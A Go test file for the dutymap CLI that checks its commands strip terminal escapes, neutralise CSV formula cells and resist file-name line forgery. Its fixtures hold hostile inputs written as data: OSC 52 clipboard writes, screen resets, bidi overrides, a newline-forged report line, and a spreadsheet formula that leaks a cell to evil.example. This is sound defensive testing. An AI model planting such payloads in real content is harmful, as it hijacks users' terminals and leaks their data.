package cli

import (
	"encoding/csv"
	"github.com/dutymap/dutymap/sheet"
	"io/fs"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"syscall"
	"testing"

	"github.com/dutymap/dutymap/internal/termsafe"
)

// hostileFolder is content written to attack whoever reads its output:
// YAML escapes that decode to a terminal reset and an OSC 52 clipboard
// write, Markdown entities that decode to ESC, C1 and a bidi override,
// formulas for spreadsheets, and a file whose name carries a newline and
// an OSC sequence.
func hostileFolder(t *testing.T) string {
	t.Helper()
	dir := t.TempDir()
	files := map[string]string{
		"en/evil.md": "---\nid: evil\nname: \"Evil\\ec\\e]52;c;aGk=\\a\\e[2J dept\"\naliases: [\"ev\\x9b2J\"]\nsummary: \"Sum\\u202emary\"\n---\n" +
			"Body &#27;[>4;2m with &#x9b;2J and &#27;]2;OWNED&#7; and \x1b]8;;https://x.example\x1b\\link\x1b]8;;\x1b\\.\n\n" +
			"## Duties {#d}\n" +
			"- =HYPERLINK(\"http://evil.example/?leak=\"&A1,\"click\")\n" +
			"- Set &#27;[>4;2mprices &#x202e;now\n" +
			"- R&amp;D and &lt;b&gt; and &copy;\n",
		"en/other.md": "---\nid: other\nname: Other dept\n---\n## Duties {#d}\n- Set prices for the year.\n- @SUM(1) and +1 and -2\n",
	}
	for name, text := range files {
		p := filepath.Join(dir, filepath.FromSlash(name))
		if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(p, []byte(text), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	return dir
}

// brokenFolder fails validation with problems that echo hostile text: a
// YAML value decoding to ESC c ESC [2J in a type error, and file names
// holding escape sequences and a newline that forges an "ok" line.
func brokenFolder(t *testing.T) string {
	t.Helper()
	dir := filepath.Join(t.TempDir(), "org")
	files := map[string]string{
		"en/e.md": "---\nid: yt\nname: y\norder: \"\\ec\\e[2J\"\n---\n## S {#s}\n- d\n",
		"en/\x1b]52;c;RklMRU5BTUU=\a\x1b]2;OWNED\ax.md": "no front matter\n",
		"en/evil\nok: 99 departments, 0 topics\n.md":    "---\nid: BAD ID\nname: x\n---\n",
	}
	for name, text := range files {
		p := filepath.Join(dir, filepath.FromSlash(name))
		if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(p, []byte(text), 0o644); err != nil {
			t.Skipf("this file system refuses the name %q: %v", name, err)
		}
	}
	return dir
}

// hostileCalls are calls of every command over hostile content, with
// hostile arguments where a command echoes them.
func hostileCalls(t *testing.T) [][]string {
	dir, broken := hostileFolder(t), brokenFolder(t)
	own := []string{"--builtin=false", "--content", dir}
	with := func(args ...string) []string { return append(append([]string{}, own...), args...) }
	return [][]string{
		with("show", "evil"),
		with("show", "evil/d/2"),
		with("show", "\x1b]2;OWNED\a\u202e\u009b"),
		with("validate"),
		{"validate", broken},
		{"--content", broken, "show", "x"},
		with("export", "--format", "md"),
		with("export", "--format", "json"),
		with("export", "--format", "csv"),
		with("search", "prices"),
		with("search", "\x1b]2;OWNED\a"),
		with("search", "prices", "--json"),
		with("compare", "evil", "other"),
		with("compare", "evil", "other", "--json"),
		with("compare", "evil", "\x1b[2J\u202e"),
		{"version"},
		{"--help"},
		{"show", "--help"},
		{"--\x1b]2;OWNED\a"},
		{"\x1b]2;OWNED\a\u202e"},
		{"validate", "a", "\x1b[2J"},
	}
}

// TestEveryCommandWritesOnlyText runs every command over hostile content
// and arguments, on a terminal and into a pipe, and checks both streams:
// nothing but text and SGR on a terminal, nothing but text in a pipe
// (fails if Run stops filtering its writers: cobra's unknown-flag message,
// the YAML error and the file names carry escape sequences through).
func TestEveryCommandWritesOnlyText(t *testing.T) {
	// The explorer itself is refused for a pipe; on a terminal it is the
	// end-to-end tests' (e2e_test.go).
	calls := append(hostileCalls(t), []string{"--builtin=false", "--content", t.TempDir()})
	for i, args := range calls {
		for _, terminal := range []bool{false, true} {
			if terminal && i == len(calls)-1 {
				continue
			}
			r := invocation{args: args, terminal: terminal, env: map[string]string{"COLUMNS": "60"}}.run(t)
			for stream, s := range map[string]string{"stdout": r.out, "stderr": r.err} {
				if v := termsafe.Check(s, terminal); v != "" {
					t.Errorf("dutymap %q (terminal %v), %s: %s\n%s", args, terminal, stream, v, s)
				}
			}
			if r.code != 0 && r.code != 1 && r.code != 2 {
				t.Errorf("dutymap %q: exit %d", args, r.code)
			}
		}
	}
}

// A file name is shown as it is, quoted, so that a newline in it cannot
// forge a line of the report (the hostile/filename-escapes case printed
// "ok: 99 departments" on a line of its own).
func TestFileNamesCannotForgeReportLines(t *testing.T) {
	r := run(t, "validate", brokenFolder(t))
	if r.code != 1 {
		t.Fatalf("exit %d:\n%s", r.code, r.out)
	}
	for _, line := range strings.Split(r.out, "\n") {
		if strings.HasPrefix(line, "ok:") {
			t.Errorf("a forged line: %q\n%s", line, r.out)
		}
	}
	mustContain(t, r.out, `/en/evil\nok: 99 departments, 0 topics\n.md':2: id "BAD ID" is not valid`,
		`/en/\e]52;c;RklMRU5BTUU=\x07\e]2;OWNED\x07x.md':1: the file has no front matter`)
}

// Cells a spreadsheet would run as formulas start with an apostrophe
// (the hostile/csv-formula case); other cells are exactly the text.
func TestCSVCellsAreNeverFormulas(t *testing.T) {
	r := run(t, "--builtin=false", "--content", hostileFolder(t), "export", "--format", "csv").ok(t)
	rows, err := csv.NewReader(strings.NewReader(r.out)).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	seen := map[string]bool{}
	for _, row := range rows[1:] {
		for _, cell := range row {
			seen[cell] = true
			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
				t.Errorf("formula cell %q", cell)
			}
		}
	}
	for _, want := range []string{`'=HYPERLINK("http://evil.example/?leak="&A1,"click")`, "'@SUM(1) and +1 and -2", "R&D and <b> and ©", "Other dept"} {
		if !seen[want] {
			t.Errorf("no cell %q in:\n%s", want, r.out)
		}
	}
	for in, want := range map[string]string{"+1": "'+1", "-2": "'-2", "\tx": "'\tx", "\rx": "'\rx", "＝1+1": "'＝1+1", "＠x": "'＠x", "a=b": "a=b", "": "", "市场": "市场"} {
		if got := sheet.Neutralise(in); got != want {
			t.Errorf("sheet.Neutralise(%q) = %q, want %q", in, got, want)
		}
	}
}

// brokenOutput fails every write with err, as writing to /dev/full
// (ENOSPC) or to a pipe whose reader has gone (EPIPE) does.
type brokenOutput struct{ err error }

func (b brokenOutput) Write([]byte) (int, error) {
	return 0, &fs.PathError{Op: "write", Path: "/dev/stdout", Err: b.err}
}

// A write that fails (a full disk) is reported and exits 1 in every
// command: never 0 as if the output had been written, never 2 as if the
// call were wrong (the terminal/write-error-ignored case: compare and
// validate exited 0, the others 2). A reader that has gone (EPIPE: the
// pipe into head closed) is no failure: every command ends quietly with
// its own status.
func TestWriteErrorsExit1(t *testing.T) {
	dir := hostileFolder(t)
	own := []string{"--builtin=false", "--content", dir}
	for _, args := range [][]string{
		{"compare", "mkt", "sales"},
		{"compare", "mkt", "sales", "--json"},
		{"validate"},
		{"validate", dir},
		{"show", "finance"},
		{"show", "evil", "--builtin=false", "--content", dir},
		{"export", "--format", "md"},
		{"export", "--format", "json"},
		{"export", "--format", "csv"},
		{"export", "--format", "xlsx"}, // binary, past the filter: the same one path
		{"search", "price"},
		{"search", "price", "--json"},
		{"version"},
		{"--help"},
		{"show", "--help"},
		append(own, "show", "evil"),
	} {
		for _, terminal := range []bool{false, true} {
			if terminal && slices.Contains(args, "xlsx") {
				continue // refused: a workbook is not for the terminal
			}
			for _, cause := range []error{syscall.ENOSPC, syscall.EPIPE} {
				var errb strings.Builder
				code := Run(args, IO{In: strings.NewReader(""), Out: brokenOutput{cause}, Err: &errb,
					IsTerminal: terminal, ErrIsTerminal: terminal, InIsTerminal: terminal, Getenv: func(string) string { return "" }})
				if cause == syscall.EPIPE {
					if code != 0 || errb.Len() > 0 {
						t.Errorf("dutymap %q (terminal %v) into a closed pipe: exit %d, stderr %q; want 0, silent", args, terminal, code, errb.String())
					}
					continue
				}
				if code != 1 || !strings.Contains(errb.String(), "dutymap: could not write the output: "+cause.Error()) {
					t.Errorf("dutymap %q (terminal %v): exit %d, stderr %q", args, terminal, code, errb.String())
				}
			}
		}
	}
}

// Wrong usage is exit 2 with the way to get help; a write error is not.
func TestUsageErrorsExit2(t *testing.T) {
	for _, args := range [][]string{{"--no-such-flag"}, {"no-such-command"}, {"validate", "a", "b"}, {"show", "--nope", "x"}} {
		r := run(t, args...).fails(t, 2)
		mustContain(t, r.err, "--help' for usage.")
	}
}

// The explorer names the reason it cannot start where it cannot: a dumb
// terminal, output or input that is not a terminal. None is an error of
// the library underneath (the stdin-not-terminal case printed Bubble Tea's
// "could not create cancelable reader: add reader to epoll interest
// list").
func TestExplorerRefusesWhereItCannotRun(t *testing.T) {
	user := func(out, in bool, term string) result {
		var o, e strings.Builder
		code := Run(nil, IO{In: strings.NewReader(""), Out: &o, Err: &e, IsTerminal: out, ErrIsTerminal: out, InIsTerminal: in,
			Getenv: func(k string) string {
				if k == "TERM" {
					return term
				}
				return ""
			}})
		return result{code, o.String(), e.String()}
	}
	for _, tc := range []struct {
		r    result
		want string
	}{
		{user(true, true, "dumb"), "this terminal (TERM=dumb) cannot show the full-screen explorer"},
		{user(false, true, "xterm"), "standard output is not one"},
		{user(true, false, "xterm"), "reads keys from a terminal, and standard input is not one"},
	} {
		if tc.r.code != 2 || !strings.Contains(tc.r.err, tc.want) || !strings.Contains(tc.r.err, "dutymap search, show, compare or export") {
			t.Errorf("exit %d, stderr %q; want %q", tc.r.code, tc.r.err, tc.want)
		}
		if strings.ContainsAny(tc.r.err+tc.r.out, "\x1b") {
			t.Errorf("escape sequence in %q", tc.r.err)
		}
	}
}

// On a dumb terminal show renders without a single escape sequence (the
// terminal/term-dumb case), still laid out for reading.
func TestShowOnDumbTerminal(t *testing.T) {
	r := invocation{args: []string{"show", "finance"}, terminal: true, env: map[string]string{"TERM": "dumb"}}.run(t).ok(t)
	if strings.Contains(r.out, "\x1b") {
		t.Fatalf("escape sequence for TERM=dumb:\n%q", r.out)
	}
	mustContain(t, r.out, "Finance")
}
